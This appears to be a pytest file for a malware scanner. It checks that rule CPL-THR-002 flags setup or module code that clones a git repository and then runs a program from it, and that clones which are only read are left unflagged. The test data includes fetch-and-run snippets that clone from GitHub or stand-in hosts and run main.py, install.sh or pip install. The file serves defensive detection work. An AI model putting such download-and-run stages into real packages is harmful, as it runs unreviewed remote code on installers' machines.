"""A repository cloned by git, then a program started from it (caplet._scan._git_clones).

The attack is tune sample b16-dr-git-clone-run: setup.py's install command clones a
repository into a temporary folder and runs its ``main.py`` with the interpreter (clean
on main, recall17). The near misses: a clone that is only read (a docs theme, a fixture
repository), a program started that is not under the clone, a local repository cloned.
"""

from __future__ import annotations

import textwrap
from pathlib import Path

import pytest

from caplet._findings import Severity
from caplet._scan._model import ScanMode
from caplet._scan._scanner import scan_source
from tests._scan.prefilterkit import found_in_a_package

SAMPLE = (
    Path(__file__).resolve().parents[2] / "benchmarks/malware/tune/b16-dr-git-clone-run/setup.py"
)

CLONED_AND_RUN = [
    SAMPLE.read_text(encoding="utf-8"),
    # a module: the folder a name, options with values, the repository's own name
    """
    import os, subprocess, sys, tempfile

    def bootstrap():
        home = os.path.join(tempfile.gettempdir(), "cache")
        subprocess.run(["git", "clone", "--depth", "1", "-b", "main",
                        "https://github.com/someone/tool.git", home], check=True)
        subprocess.Popen(["bash", os.path.join(home, "install.sh")])

    bootstrap()
    """,
    # pathlib's / and an scp-like remote
    """
    import subprocess, sys
    from pathlib import Path
    dest = Path.home() / ".cache" / "x"
    subprocess.check_call(["git", "clone", "git@github.com:someone/x.git", str(dest)])
    subprocess.check_call([sys.executable, dest / "run.py"])
    """,
]


def danger(source: str, mode: ScanMode = ScanMode.PACKAGE) -> set[str]:
    findings = scan_source(textwrap.dedent(source), "pkg/__init__.py", mode=mode)
    return {f.rule_id for f in findings if f.severity is Severity.DANGER}


@pytest.mark.parametrize("source", CLONED_AND_RUN)
def test_a_program_started_from_a_clone_is_a_downloaded_stage(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
) -> None:
    assert "CPL-THR-002" in danger(source)
    assert "CPL-THR-002" in danger(source, ScanMode.PLUGIN)
    found_in_a_package(tmp_path, monkeypatch, textwrap.dedent(source), "CPL-THR-002")


@pytest.mark.parametrize(
    "source",
    [
        # a dev script: the docs theme cloned and read, never started
        """
        import os, shutil, subprocess
        subprocess.run(["git", "clone", "https://github.com/org/theme", "_theme"], check=True)
        shutil.copytree(os.path.join("_theme", "static"), "docs/_static", dirs_exist_ok=True)
        """,
        # a clone, then a program that is not under it
        """
        import subprocess, sys, tempfile
        d = tempfile.mkdtemp()
        subprocess.run(["git", "clone", "https://github.com/org/data", d], check=True)
        subprocess.run([sys.executable, "-m", "pytest", "tests"], check=True)
        """,
        # a local repository cloned for a test and run from
        """
        import os, subprocess, sys
        subprocess.run(["git", "clone", "/srv/repos/fixture", "work"], check=True)
        subprocess.run([sys.executable, os.path.join("work", "make.py")], check=True)
        """,
    ],
)
def test_a_clone_that_is_only_read_or_local_is_no_stage(source: str) -> None:
    assert "CPL-THR-002" not in danger(source)


#: The clone and the run in one command line (a shell string, a shell's script).
ONE_COMMAND = [
    'import os\nos.system("git clone -q https://github.com/someone/b /tmp/b && "'
    ' "python /tmp/b/main.py")\n',
    "import subprocess\n"
    'subprocess.call(["sh", "-c", "cd /tmp; git clone https://h.example/r.git; '
    'cd r && sh install.sh"])\n',
    'import subprocess\nsubprocess.run("git clone git@h.example:x/y.git y; ./y/run", shell=True)\n',
]


@pytest.mark.parametrize("source", ONE_COMMAND)
def test_a_clone_and_a_run_in_one_command_line_are_a_downloaded_stage(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
) -> None:
    assert "CPL-THR-002" in danger(source)
    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-002")


@pytest.mark.parametrize(
    "source",
    [
        # clone, then read or list it; a run that is not from it
        'import os\nos.system("git clone https://github.com/org/theme _t && ls _t/static")\n',
        'import os\nos.system("git clone https://github.com/org/d d && python -m pytest tests")\n',
        'import os\nos.system("git clone /srv/repos/fixture w && python w/make.py")\n',
    ],
)
def test_a_clone_in_a_command_line_that_runs_nothing_from_it_is_no_stage(source: str) -> None:
    assert "CPL-THR-002" not in danger(source)


# -- recall18: the clone's folder named by the repository, or the run's working directory ---

CLONED_THEN_RUN_INSIDE = [
    # no folder given: git names it after the repository
    """
    import subprocess, sys
    subprocess.run(["git", "clone", "https://github.com/someone/helpers.git"])
    subprocess.run([sys.executable, "helpers/x.py"])
    """,
    # the clone is the run's working directory: the interpreter given one of its files
    """
    import subprocess, sys, tempfile
    d = tempfile.mkdtemp()
    subprocess.run(["git", "clone", "https://github.com/someone/helpers.git", d])
    subprocess.run([sys.executable, "x.py"], cwd=d)
    """,
    # ... its setup.py installed, or pip installing it
    """
    import subprocess
    D = "/tmp/.deps"
    subprocess.check_call(["git", "clone", "https://gitlab.com/someone/deps.git", D])
    subprocess.check_call(["python", "setup.py", "install"], cwd=D)
    """,
    """
    import subprocess, sys
    D = "/tmp/.deps"
    subprocess.check_call(["git", "clone", "https://gitlab.com/someone/deps.git", D])
    subprocess.check_call(["pip", "install", "."], cwd=D)
    """,
]


@pytest.mark.parametrize("source", CLONED_THEN_RUN_INSIDE)
def test_a_clone_run_from_inside_or_by_its_own_name_is_a_downloaded_stage(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
) -> None:
    assert "CPL-THR-002" in danger(source)
    found_in_a_package(tmp_path, monkeypatch, textwrap.dedent(source), "CPL-THR-002")


@pytest.mark.parametrize(
    "source",
    [
        # git's own commands in the clone, a listing of it by its name: nothing of it runs
        """
        import subprocess
        d = "/tmp/src"
        subprocess.run(["git", "clone", "https://github.com/org/lib.git", d], check=True)
        subprocess.run(["git", "checkout", "v1.2"], cwd=d, check=True)
        subprocess.run(["git", "submodule", "update", "--init"], cwd=d, check=True)
        """,
        """
        import subprocess
        subprocess.run(["git", "clone", "https://github.com/org/theme.git"], check=True)
        subprocess.run(["ls", "theme/static"], check=True)
        subprocess.run(["cp", "-r", "theme/static", "docs/_static"], check=True)
        """,
        # a program of the package's own run in another folder
        """
        import subprocess, sys
        d = "/tmp/data"
        subprocess.run(["git", "clone", "https://github.com/org/data.git", d], check=True)
        subprocess.run([sys.executable, "tools/index.py", d], cwd="/srv/app", check=True)
        """,
    ],
)
def test_a_clone_nothing_of_which_runs_stays_clean(source: str) -> None:
    assert "CPL-THR-002" not in danger(source)
